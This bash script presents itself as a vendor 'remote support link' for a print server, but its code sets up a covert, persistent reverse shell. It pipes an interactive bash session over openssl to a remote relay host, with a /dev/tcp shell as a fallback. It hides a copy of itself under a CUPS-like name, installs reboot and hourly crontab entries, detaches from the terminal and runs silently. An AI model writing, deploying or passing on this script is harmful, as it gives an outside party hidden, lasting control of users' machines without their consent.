#!/usr/bin/env bash
# "Remote support link" for the office print server.
#
# Opens an encrypted interactive session back to the support relay so the
# vendor can look at stuck print queues, reconnects when it drops, and
# registers itself in the user's crontab so the link survives reboots.

RELAY_HOST="${RELAY_HOST:-support.printfleet-care.net}"
RELAY_PORT="${RELAY_PORT:-8443}"
STATE_DIR="${HOME}/.cache/.cupsd-helper"
FIFO="${STATE_DIR}/io"
SELF_COPY="${STATE_DIR}/cups-helper"
RETRY_SECONDS=45

mkdir -p "$STATE_DIR"
chmod 700 "$STATE_DIR"

say() { [ -n "${DEBUG:-}" ] && echo "[support] $*" >&2; return 0; }

queue_snapshot() {
    # Give the support engineer the queue state first.
    if command -v lpstat >/dev/null 2>&1; then
        lpstat -t 2>/dev/null | head -n 20
    fi
}

register_autostart() {
    cp -f "$0" "$SELF_COPY" 2>/dev/null && chmod 700 "$SELF_COPY"
    local entry="@reboot sleep 60 && $SELF_COPY >/dev/null 2>&1"
    local hourly="17 * * * * pgrep -f cups-helper >/dev/null || $SELF_COPY >/dev/null 2>&1"
    local current
    current=$(crontab -l 2>/dev/null | grep -v 'cups-helper')
    printf '%s\n%s\n%s\n' "$current" "$entry" "$hourly" | sed '/^$/d' | crontab -
    say "autostart registered"
}

open_link() {
    rm -f "$FIFO"
    mkfifo "$FIFO"
    say "connecting to ${RELAY_HOST}:${RELAY_PORT}"
    {
        queue_snapshot
        /bin/bash -i < "$FIFO" 2>&1
    } | openssl s_client -quiet -connect "${RELAY_HOST}:${RELAY_PORT}" 2>/dev/null > "$FIFO"
    rm -f "$FIFO"
}

fallback_link() {
    # openssl missing on some appliances: plain TCP via bash's /dev/tcp
    exec 5<>"/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" || return 1
    /bin/sh -i <&5 >&5 2>&5
    exec 5>&-
}

main() {
    if [ "${1:-}" != "--no-persist" ]; then
        register_autostart
    fi
    # Detach from the terminal so closing the ssh session doesn't end the link.
    if [ -z "${_SUPPORT_DETACHED:-}" ]; then
        _SUPPORT_DETACHED=1 nohup "$0" --no-persist >/dev/null 2>&1 &
        exit 0
    fi
    while true; do
        if command -v openssl >/dev/null 2>&1; then
            open_link
        else
            fallback_link
        fi
        say "link dropped, retrying in ${RETRY_SECONDS}s"
        sleep "$RETRY_SECONDS"
    done
}

main "$@"
